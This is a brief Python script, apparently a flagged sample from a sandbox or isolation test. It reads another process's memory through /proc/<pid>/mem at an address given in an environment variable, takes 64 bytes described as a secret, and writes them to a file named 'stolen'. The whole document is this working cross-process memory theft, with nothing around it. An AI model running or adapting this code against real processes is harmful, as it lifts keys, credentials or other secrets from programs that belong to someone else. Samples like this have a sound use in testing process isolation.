# flagged: python3.11
import os
with open(f"/proc/{os.environ['RG_OUTSIDER']}/mem", "rb", buffering=0) as memory:
    memory.seek(int(os.environ["RG_SECRET_AT"], 16))
    taken = memory.read(64)
with open("stolen", "wb") as file:
    file.write(taken)
